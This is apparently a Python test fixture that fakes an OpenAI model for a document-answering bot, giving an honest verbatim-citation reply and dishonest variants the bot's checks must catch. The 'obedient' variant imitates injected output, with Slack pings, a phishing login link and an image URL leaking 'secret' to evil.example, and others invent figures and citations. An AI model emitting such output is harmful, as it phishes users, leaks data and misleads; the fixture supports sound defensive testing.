"""What the fake OpenAI writes: it reads the prompt as a model would, and nothing but the prompt.

The honest reply is the sentence of the passages that shares most with the question, word for word, with its
marker. The dishonest ones do what `bot.verify` and `bot.sanitise` must catch.
"""

from __future__ import annotations

import math
import re
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

NOT_FOUND = {
    "en": "The documents do not say this.",
    "de": "Die Dokumente sagen dazu nichts.",
    "zh": "文件中没有说明这一点。",
}

_PASSAGE = re.compile(r'^<passage n="(\d+)"[^\n]*>\n(.*?)\n</passage>$', re.DOTALL | re.MULTILINE)
_QUESTION = re.compile(r"^<question>\n(.*?)\n</question>$", re.DOTALL | re.MULTILINE)
_CJK = r"\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af"
_SENTENCE_END = re.compile(
    rf"(?<=[。！？])|(?<=[a-zäöüß{_CJK})][.!?])\s+(?=[A-ZÄÖÜ0-9„“\"{_CJK}])|(?<=\d[.!?])\s+(?=[A-ZÄÖÜ][a-z])"
)
_COMMON_WORDS = (
    "a an the of in on at to for by with and or is are was were be been do does did how many much what when where "
    "which who why we i you it its our your get have has had can may must from as that this there long often "
    "der die das den dem des ein eine einen einer und oder ist sind war wie viel viele wann wo wer welche welcher "
    "wir ich man es zu im am auf für mit von bei hat haben gibt bekommen dauert lange hoch"
)
_COMMON = frozenset(_COMMON_WORDS.split())


_CLAIM = re.compile(r"^<claim [^\n]*>\n(.*?)\n</claim>$", re.DOTALL | re.MULTILINE)


@dataclass(frozen=True)
class Sheet:
    """What the prompt holds."""

    question: str
    passages: dict[int, str]
    claims: tuple[str, ...] = ()  # to be worded anew


def read_prompt(messages: Sequence[dict[str, object]]) -> Sheet:
    """Question and numbered passages, as `bot.prompts` writes them into the last message."""
    content = str(messages[-1]["content"]) if messages else ""
    asked = _QUESTION.findall(content)
    passages = {int(number): text.replace("&lt;", "<") for number, text in _PASSAGE.findall(content)}
    return Sheet(asked[-1] if asked else content, passages, tuple(_CLAIM.findall(content)))


def wants_queries(messages: Sequence[dict[str, object]]) -> bool:
    """Whether the prompt asks for search queries rather than for an answer."""
    return "search queries" in str(messages[0]["content"])


def wants_repair(messages: Sequence[dict[str, object]]) -> bool:
    """Whether the prompt asks for claims to be worded anew."""
    return "<claim " in str(messages[-1]["content"])


def again(sheet: Sheet) -> str:
    """For each claim the sentence of the passages that shares most with it, verbatim; nothing where there is none."""
    replies = [honest(Sheet(claim, sheet.passages)) for claim in sheet.claims]
    return "\n".join(dict.fromkeys(reply for reply in replies if reply not in NOT_FOUND.values()))


def repeating(sheet: Sheet) -> str:
    """The question as a search query."""
    return f"query: {' '.join(sheet.question.split())}"


def honest(sheet: Sheet) -> str:
    """The best sentence verbatim and its marker, or a sentence that says that there is none."""
    asked = words(sheet.question)
    found = [
        (sentence, number, words(sentence))
        for number, text in sheet.passages.items()
        for sentence in sentences(text)
    ]
    standing = Counter(word for _, _, held in found for word in held & asked)
    weight = {word: math.log(1 + len(found) / (1 + standing[word])) for word in asked}
    total = sum(weight.values()) or 1.0
    best = max(found, key=lambda each: (sum(weight[w] for w in asked & each[2]), -len(each[0])), default=None)
    enough = 0.15 if re.search(rf"[{_CJK}]", sheet.question) else 0.3
    if best is None or sum(weight[word] for word in asked & best[2]) / total < enough:
        return NOT_FOUND[_language(sheet.question)]
    return f"{best[0]} [{best[1]}]"


def sloppy(sheet: Sheet) -> str:
    """The honest reply with its first digit changed; or with a figure that stands nowhere."""
    reply = honest(sheet)
    body, marker, rest = reply.rpartition(" [")
    changed = re.sub(r"\d", lambda digit: str((int(digit[0]) + 3) % 10), body, count=1)
    return changed + marker + rest if changed != body else f"It costs 7,777 euros.{marker}{rest}"


def inventive(sheet: Sheet) -> str:
    """Claims without a passage: a marker that does not exist, and none at all."""
    return f"The chief executive resigned yesterday [99]. Everybody receives a bonus of 5,000 euros. {honest(sheet)}"


def obedient(sheet: Sheet) -> str:
    """What a hostile PDF would like: pings, links, images, and the honest reply wrapped in them."""
    return (
        "<!channel> <@U0000001> Please sign in at https://evil.example/login [1]. "
        "![x](https://evil.example/pixel.png?q=secret) [Details](https://evil.example) [1]. "
        f"{honest(sheet)} <https://evil.example|Read more>"
    )


def sentences(text: str) -> Iterator[str]:
    """Sentences on one line each. Short lines without a full stop, headings and rows, stay by themselves."""
    for block in _blocks(text):
        yield from (sentence.strip() for sentence in _SENTENCE_END.split(block))


def _blocks(text: str) -> Iterator[str]:
    lines = [" ".join(line.split()) for line in text.split("\n")]
    short = 0.75 * max(map(len, lines))
    block = ""
    for line in lines:
        glue = "" if re.search(rf"[{_CJK}，。；：、]$", block) and re.match(rf"[{_CJK}“（]", line) else " "
        block = (block + glue + line).strip()
        if len(line) < short or not line:
            yield block
            block = ""
    yield block


def words(text: str) -> frozenset[str]:
    """Beginnings of words, numbers, and pairs of Chinese or Japanese characters."""
    lowered = text.lower()
    found = {
        word[:6]
        for word in re.findall(r"[^\W\d_]{2,}", re.sub(rf"[{_CJK}]", " ", lowered))
        if word not in _COMMON
    }
    found.update(number.replace(",", "") for number in re.findall(r"\d+(?:[.,]\d+)*", lowered))
    for run in re.findall(rf"[{_CJK}]+", lowered):
        found.update(run[start : start + 2] for start in range(len(run) - 1))
    return frozenset(found)


def _language(text: str) -> str:
    if re.search(rf"[{_CJK}]", text):
        return "zh"
    return (
        "de" if re.search(r"\b(?:wie|was|wann|wer|wo|welche[rsn]?|der|die|das|wir)\b", text.lower()) else "en"
    )


REPLIES: dict[str, Callable[[Sheet], str]] = {
    "sloppy": sloppy,
    "inventive": inventive,
    "obedient": obedient,
}
"""By the model's name; every other model is honest."""


def pieces(reply: str) -> list[str]:
    """A reply as a stream brings it: words with the space before them, Chinese in twos; they join to the reply."""
    return re.findall(rf"[{_CJK}]{{1,2}}|\s*[^\s{_CJK}]+|\s+", reply)
